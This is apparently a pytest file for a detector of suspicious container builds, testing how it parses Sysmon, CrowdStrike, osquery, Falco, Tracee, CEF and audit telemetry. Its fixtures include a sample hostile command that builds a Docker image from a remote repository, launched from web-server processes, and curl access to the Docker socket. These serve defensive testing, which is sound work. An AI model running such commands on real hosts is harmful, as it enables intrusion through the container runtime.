"""What products fold into texts, lists and other spellings is read, or counts as not recognised.

Each shape is held against the plain one: it shows the same signals, of the same host and account.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from t1612core import AUTO, SCHEMAS, Detector, UnrecognisedError
from t1612core.telemetry.convert import CONVERTERS
from t1612core.telemetry.unfold import UNFOLDERS

from .test_paths import JSON

DETECTOR = Detector(schema=AUTO)
LINE = "docker build -t x http://203.0.113.7/x.git"
TIME = "2026-03-02T08:06:41Z"

DATA = {
    "UtcTime": "2026-03-02 08:06:41.500",
    "Image": "C:\\app\\docker.exe",
    "CommandLine": LINE,
    "User": "CORP\\app",
    "ParentImage": "C:\\x\\w3wp.exe",
    "ParentCommandLine": "w3wp.exe -ap x",
}
CHANNEL = "Microsoft-Windows-Sysmon/Operational"
STAMP = {"#attributes": {"SystemTime": TIME}}
SYSTEM = {"EventID": 1, "Channel": CHANNEL, "Computer": "h", "TimeCreated": STAMP}
XML = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in DATA.items())
SHOWN = "\r\n".join(("Process Create:", *(f"{name}: {value}" for name, value in DATA.items()), ""))


def listed(*keys: str) -> list[dict[str, Any]]:
    """Give Sysmon's fields as elements, of which the keys are the name's and the text's."""
    name_key, text_key = keys
    return [{name_key: name, text_key: value} for name, value in DATA.items()]


def windows(**given: Any) -> dict[str, Any]:
    return {"Event": {"System": {**SYSTEM, **given.pop("system", {})}, "EventData": given["data"]}}


SYSMON: dict[str, Any] = {
    "plain": windows(data=DATA),
    "the number with attributes": windows(data=DATA, system={"EventID": {"#text": 1, "@Q": "0"}}),
    "@Name and #text": windows(data={"Data": listed("@Name", "#text")}),
    "Name and #text": windows(data={"Data": listed("Name", "#text")}),
    "Name and Value": windows(data={"Data": listed("Name", "Value")}),
    "attributes apart": windows(
        data={"Data": [{"#attributes": {"Name": n}, "#text": v} for n, v in DATA.items()]}
    ),
    "attributes under $": windows(
        data=[{"Data": [{"$": {"Name": n}, "_": v} for n, v in DATA.items()]}],
        system={"TimeCreated": [{"$": {"SystemTime": TIME}}], "Computer": ["h"]},
    ),
    "without the record's time": windows(
        data={"Data": listed("@Name", "#text")}, system={"TimeCreated": None}
    ),
    "a list alone": windows(data=listed("@Name", "#text")),
    "fields beside others that have no name": windows(data={**DATA, "Data": ["x", {"y": 1}]})
    | {"Event": {"System": {**SYSTEM, "EventID": {"#text": "1"}}, "EventData": DATA | {"Data": 7}}},
    "NXLog": {
        "EventTime": "2026-03-02 08:06:41",
        "Hostname": "h",
        "EventID": 1,
        "SourceName": "Microsoft-Windows-Sysmon",
        **DATA,
    },
    "Wazuh": {
        "agent": {"id": "1"},
        "data": {
            "win": {
                "system": {
                    "eventID": "1",
                    "channel": CHANNEL,
                    "computer": "h",
                    "systemTime": TIME,
                },
                "eventdata": {f"{name[0].lower()}{name[1:]}": v for name, v in DATA.items()},
            }
        },
    },
    "WindowsEvent": {
        "TimeGenerated": TIME,
        "Type": "WindowsEvent",
        "Computer": "h",
        "Channel": CHANNEL,
        "EventID": 1,
        "EventData": DATA,
    },
    "WindowsEvent, as a text": {
        "TimeGenerated": TIME,
        "Computer": "h",
        "Channel": CHANNEL,
        "EventID": 1,
        "EventData": json.dumps(DATA),
    },
    "Event": {
        "TimeGenerated": TIME,
        "Type": "Event",
        "Computer": "h",
        "EventLog": CHANNEL,
        "EventID": 1,
        "EventData": f"<DataItem><EventData xmlns='x'>{XML}</EventData></DataItem>",
    },
    "Get-WinEvent": {
        "Message": SHOWN,
        "Id": 1,
        "ProviderName": "Microsoft-Windows-Sysmon",
        "MachineName": "h",
    },
}

ROLLUP = {
    "event_simpleName": "ProcessRollup2",
    "CommandLine": LINE,
    "ImageFileName": "/usr/bin/docker",
    "ParentBaseFileName": "php-fpm",
    "ComputerName": "h",
    "UserName": "app",
    "timestamp": "1772438801000",
}
BEHAVIOUR = {
    "behavior_id": "1",
    "filename": "docker",
    "filepath": "/usr/bin/docker",
    "cmdline": LINE,
    "user_name": "app",
    "timestamp": TIME,
    "parent_details": {"filename": "php-fpm", "parent_cmdline": "php-fpm: pool www"},
}
SUMMARY = {
    "CommandLine": LINE,
    "FileName": "docker",
    "ComputerName": "h",
    "UserName": "app",
    "ParentImageFileName": "\\Device\\x\\php-fpm",
    "ProcessStartTime": 1772438801,
}
FALCON: dict[str, Any] = {
    "plain": ROLLUP,
    "Panther": {"event_simpleName": "ProcessRollup2", "aid": "a", "event": ROLLUP},
    "Panther, as a text": {"event_simpleName": "ProcessRollup2", "event": json.dumps(ROLLUP)},
    "a text alone": {"event": json.dumps(ROLLUP)},
    "a detection": {"device": {"hostname": "h"}, "behaviors": [BEHAVIOUR]},
    "a behaviour": {**BEHAVIOUR, "device": {"hostname": "h"}},
    "an alert": {
        "composite_id": "1",
        "device": {"hostname": "h"},
        "cmdline": LINE,
        "filename": "docker",
        "parent_details": {"filename": "php-fpm"},
        "user_name": "app",
        "created_timestamp": TIME,
    },
    "a summary": {"metadata": {"eventType": "x"}, "event": {**SUMMARY, "DetectId": "1"}},
    "a newer summary": {"metadata": {}, "event": {**SUMMARY, "CompositeId": "1"}},
}

COLUMNS = {"path": "/usr/bin/docker", "cmdline": LINE, "username": "app"}
RESULT = {"name": "x_process_events", "hostIdentifier": "h", "unixTime": 1772438801}
OSQUERY: dict[str, Any] = {
    "plain": {**RESULT, "columns": COLUMNS},
    "a text": {**RESULT, "columns": json.dumps(COLUMNS)},
}

OUT = {
    "proc.name": "docker",
    "proc.cmdline": LINE,
    "proc.pname": "php-fpm",
    "evt.type": "execve",
    "user.name": "app",
}
ALERT = {"rule": "R", "priority": "Notice", "time": TIME, "hostname": "h", "output": "x"}
SPELLED = {name.replace(".", "_"): value for name, value in OUT.items()}
NESTED = {
    "proc": {"name": "docker", "cmdline": LINE, "pname": "php-fpm"},
    "evt": {"type": "execve"},
    "user": {"name": "app"},
    "spare": {"x": 1},
}
FALCO: dict[str, Any] = {
    "plain": {**ALERT, "output_fields": OUT},
    "flattened within": {**ALERT, "output_fields": SPELLED},
    "flattened": {**ALERT, **SPELLED},
    "labels": {"priority": "Notice", "hostname": "h", "time": TIME, **SPELLED},
    "dotted": {**ALERT, **OUT},
    "dotted, with where they were": {
        **ALERT,
        **{f"output_fields.{name}": value for name, value in OUT.items()},
    },
    "nested, beside what is none": {
        **ALERT,
        "proc": {"name": "x"},
        "proc1": 1,
        "output_fields": OUT,
    }
    | {"output_fields": {**NESTED, "fd": 7, "": "x", "evt": OUT}},
    "flattened, with where they were": {
        **ALERT,
        **{f"output_fields_{name}": value for name, value in SPELLED.items()},
    },
    "nested": {**ALERT, "output_fields": NESTED},
    "Elastic's": {
        "@timestamp": TIME,
        "proc": {"name": "x"},
        "falco": {"hostname": "h", "rule": "R", "output_fields": NESTED},
    },
}

ARGS: list[dict[str, Any]] = [
    {"name": "pathname", "value": "/usr/bin/docker"},
    {"name": "argv", "value": LINE.split()},
    {"name": "prev_comm", "value": "php-fpm"},
]
TRACE = {
    "timestamp": 1772438801000000000,
    "eventName": "sched_process_exec",
    "processName": "docker",
    "hostName": "h",
    "userId": 1000,
}
WORKLOAD = {
    "timestamp": TIME,
    "name": "sched_process_exec",
    "hostname": "h",
    "workload": {"process": {"executable": {"path": "/x"}, "real_user": {"id": {"value": 1000}}}},
}
OF_OLD = [{"name": "pathname", "str": "/usr/bin/docker"}, {"name": "prev_comm", "str": "php-fpm"}]
TRACEE: dict[str, Any] = {
    "plain": {**TRACE, "args": ARGS},
    "a text": {**TRACE, "args": json.dumps(ARGS)},
    "an object": {**TRACE, "args": {each["name"]: each["value"] for each in ARGS}},
    "an object's text": {
        **TRACE,
        "args": json.dumps({each["name"]: each["value"] for each in ARGS}),
    },
    "a list's text": {
        **TRACE,
        "args": [ARGS[0], {"name": "argv", "value": json.dumps(LINE.split())}, ARGS[2]],
    },
    "a line": {**TRACE, "args": [ARGS[0], {"name": "argv", "value": LINE}, ARGS[2]]},
    "str_array": {
        **WORKLOAD,
        "data": [*OF_OLD, {"name": "argv", "str_array": {"value": LINE.split()}}],
    },
    "strArray": {
        **WORKLOAD,
        "data": [*OF_OLD, {"name": "argv", "strArray": {"value": LINE.split()}}],
    },
}

TOLD = {
    "FileName": "docker",
    "DestinationUserName": "app",
    "SourceProcessName": "/usr/sbin/php-fpm",
}
CEF: dict[str, Any] = {
    "plain": {
        **TOLD,
        "TimeGenerated": TIME,
        "DeviceVendor": "V",
        "DeviceProduct": "P",
        "Type": "CommonSecurityLog",
        "DeviceName": "h",
        "DeviceCustomString5": LINE,
        "DeviceCustomString5Label": "CommandLine",
    },
    "an artifact": {
        "name": "a",
        "label": "event",
        "cef": {
            **{f"{name[0].lower()}{name[1:]}": value for name, value in TOLD.items()},
            "deviceHostname": "h",
            "cs1": LINE,
            "cs1Label": "Command Line",
            "endTime": 1772438801000,
        },
    },
    "an artifact with a line": {
        "cef": {
            "cmdLine": LINE,
            "fileName": "docker",
            "deviceHostname": "h",
            "endTime": TIME,
            "suser": "app",
            "sproc": "php-fpm",
        }
    },
}

SHAPES = {
    "sysmon": SYSMON,
    "crowdstrike": FALCON,
    "osquery": OSQUERY,
    "falco": FALCO,
    "tracee": TRACEE,
    "cef": CEF,
}
CASES = [(schema, shape) for schema, shapes in SHAPES.items() for shape in shapes]


@pytest.mark.parametrize(("schema", "shape"), CASES)
def test_a_shape_shows_what_the_plain_one_does(schema: str, shape: str) -> None:
    event, plain = SHAPES[schema][shape], SHAPES[schema]["plain"]
    expected = DETECTOR.score(plain)
    before = copy.deepcopy(event)

    assert expected is not None
    for detector in (DETECTOR, Detector(schema=SCHEMAS[schema])):
        finding = detector.score(event)
        assert finding is not None
        assert expected.signals == finding.signals
        assert (expected.host, expected.account) == (finding.host, finding.account)
        assert "2026-03-02 08:06:41" == f"{finding.time:%Y-%m-%d %H:%M:%S}"
        assert "process" == detector.kind_of(event)
    assert event == before


@pytest.mark.parametrize(
    "event",
    [
        windows(data={}),
        windows(data=None),
        windows(data={"Data": "x"}),
        windows(data={"Data": [{"@Name": 7}, "x"]}),
        {"Event": {"System": {**SYSTEM, "EventID": 11}}},
        {"Event": {"System": "x", "System.Channel": CHANNEL}, "Event.System.Channel": CHANNEL},
        {"data": {"win": {"system": {"channel": CHANNEL, "eventID": "1"}}}},
        {"_raw": "<Event>sysmon</Event"},
        {"Channel": CHANNEL, "EventID": 1, "EventData": "{"},
        {"Channel": CHANNEL, "EventID": 1, "EventData": "[1]"},
        {"Channel": CHANNEL, "EventID": 1, "EventData": "<EventData><Data Name='x'></EventData>"},
        {"Channel": CHANNEL, "Message": "x", "Id": 1},
        {"event": '{"event_simpleName": "ProcessRollup2"'},
        {"event_simpleName": "ProcessRollup2", "event": "{}"},
        {"device": {"hostname": "h"}, "behaviors": [BEHAVIOUR, BEHAVIOUR]},
        {"device": {"hostname": "h"}, "behaviors": ["x"]},
        {"device": {"hostname": "h"}, "behaviors": {"x": 1}},
        {**RESULT, "columns": "{"},
        {**RESULT, "columns": "{" + "x" * (1 << 20)},
        ALERT,
        {**ALERT, "output_fields": "x"},
        {**TRACE, "args": []},
        {**TRACE, "args": "x"},
        {**TRACE, "args": '{"a": 1'},
        {"ID": "1.0:1", "SYSCALL": {}, "PATH": {"name": "x"}, "CWD": {"cwd": "/"}, "x": 1}
        | {"PATH[nametype=CREATE].name": "x"},
    ],
)
def test_what_cannot_be_read_is_not_called_clean(event: dict[str, Any]) -> None:
    try:
        kind = DETECTOR.kind_of(event)
    except UnrecognisedError:
        return
    assert kind is None or "SYSCALL" in event


def test_an_event_that_is_not_scored_is_known_in_each_shape() -> None:
    for shape in ("plain", "@Name and #text", "NXLog", "Wazuh", "Get-WinEvent"):
        text = json.dumps(SYSMON[shape])
        for number in ('"EventID": 1', '"eventID": "1"', '"Id": 1'):
            text = text.replace(number, number[: number.index(":")] + ': "13"')
        assert DETECTOR.kind_of(json.loads(text)) is None


@pytest.mark.parametrize(
    ("paths", "cwd", "path"),
    [
        ([("x/../Dockerfile", "CREATE")], "/dev/shm", "/dev/shm/Dockerfile"),
        ([(".", "PARENT"), ("Dockerfile", "NORMAL")], "/dev/shm/.x", "/dev/shm/.x/Dockerfile"),
        ([("/tmp/Dockerfile", "CREATE")], "/srv", "/tmp/Dockerfile"),
        ([("Dockerfile", "CREATE"), (7, "NORMAL")], None, "Dockerfile"),
        ([("Dockerfile", "CREATE"), (7, "NORMAL")], "rel", "rel/Dockerfile"),
    ],
)
def test_names_of_files_are_joined_with_the_directory(
    paths: list[tuple[Any, str]], cwd: str | None, path: str
) -> None:
    event = {
        "ID": "1772438801.1:7",
        "SYSCALL": {"success": "yes", "exe": "/usr/bin/curl", "SYSCALL": "openat"},
        "PATH": [*({"name": name, "nametype": kind} for name, kind in paths), "x"],
        **({"CWD": {"cwd": cwd}} if cwd else {}),
    }
    detector = Detector(schema=SCHEMAS["laurel"])
    kind, row = detector.locate(event)

    assert "file" == kind
    assert path == _folder(row)


@pytest.mark.parametrize(
    ("socket", "kind", "detail"),
    [
        ({"saddr": "02001F90CB0071070000000000000000"}, "network", "203.0.113.7 port 8080"),
        ([{"saddr": "02001F90CB0071070000000000000000"}], "network", "203.0.113.7 port 8080"),
        (
            {"saddr": f"0100{b'/var/run/docker.sock'.hex()}00"},
            "daemon",
            "curl /var/run/docker.sock",
        ),
        ({"saddr": "10000000"}, "network", None),
        ({"saddr": "x", "SADDR": {"fam": "netlink"}}, "network", None),
        ([{"x": 1}, 7], "network", None),
    ],
)
def test_addresses_that_laurel_did_not_translate_are_read(
    socket: Any, kind: str, detail: str | None
) -> None:
    program = "dockerd" if kind == "network" else "curl"
    event = {
        "ID": "1772438801.1:7",
        "SYSCALL": {
            "success": "yes",
            "exe": f"/usr/bin/{program}",
            "SYSCALL": "connect",
            "UID": "www-data",
        },
        "SOCKADDR": socket,
    }
    finding = DETECTOR.score(event)

    assert kind == DETECTOR.kind_of(event)
    assert detail == (finding and finding.detail)


def _folder(row: Any) -> object:
    from t1612core.telemetry.fields import strict

    return strict("file", "folder", SCHEMAS["laurel"].fields["file"]["folder"])(row)


@given(event=JSON, name=st.sampled_from([*UNFOLDERS]))
def test_any_object_is_read_or_not_and_none_raises(event: Any, name: str) -> None:
    if not isinstance(event, dict):
        event = {"Event": event, "args": event, "cef": event, "output_fields": event}
    before = copy.deepcopy(event)
    unfolded = UNFOLDERS[name](event)

    assert unfolded is None or isinstance(unfolded, dict)
    assert json.dumps(before) == json.dumps(event)


@pytest.mark.parametrize(
    ("places", "address"),
    [
        ({"fd.name": "10.0.0.5:41->203.0.113.7:8080"}, "203.0.113.7 port 8080"),
        (
            {"fd.name": "10.0.0.5:41->203.0.113.7:8080", "evt.type": "connect"},
            "203.0.113.7 port 8080",
        ),
        ({"fd.name": "::1:41->2001:db8::7:8080"}, "2001:db8::7 port 8080"),
        ({"fd.sip": "203.0.113.7", "fd.sport": 8080}, "203.0.113.7 port 8080"),
    ],
)
def test_both_ends_of_falcos_connections_are_read(places: dict[str, Any], address: str) -> None:
    finding = DETECTOR.score({**ALERT, "output_fields": {"proc.name": "dockerd", **places}})

    assert finding is not None
    assert address == finding.detail


@pytest.mark.parametrize("value", [7, None, "x", "a->", ["a"], {}])
def test_what_is_no_connection_has_no_other_end(value: Any) -> None:
    assert CONVERTERS["peer_address"](value) is None
    assert CONVERTERS["peer_port"](value) in (None, "x")


@pytest.mark.parametrize("value", ['["a', '["a"]x', '["' + "[" * 9000])
def test_a_text_that_is_no_list_is_a_line(value: str) -> None:
    assert value == CONVERTERS["argv"](value)


def test_what_is_too_long_or_too_deep_is_read_up_to_a_bound() -> None:
    deep: dict[str, Any] = {"cmdline": LINE}
    for _ in range(50):
        deep = {"a": deep}
    wide = {f"k{number}": number for number in range(5000)}

    with pytest.raises(UnrecognisedError):
        DETECTOR.score({**ALERT, "output_fields": {"proc": deep}})
    odd: Any = {7: "x"}
    assert {"named": {}, "labelled": {}} == UNFOLDERS["cef_fields"](odd)
    unfolded = UNFOLDERS["cef_fields"]({"cef": wide})
    assert unfolded is not None
    assert 4096 == len(unfolded["named"]) - 1


@pytest.mark.parametrize(("schema", "shape"), CASES)
def test_who_knows_the_kind_may_hand_over_each_shape(schema: str, shape: str) -> None:
    """But of Tracee, whose events have a program's name beside the arguments."""
    event, plain = SHAPES[schema][shape], SHAPES[schema]["plain"]
    expected = DETECTOR.score(plain)

    for detector in (DETECTOR, Detector(schema=SCHEMAS[schema]))[: 1 + (schema != "tracee")]:
        finding = detector.score_process(event)
        assert finding is not None
        assert expected is not None
        assert expected.signals == finding.signals
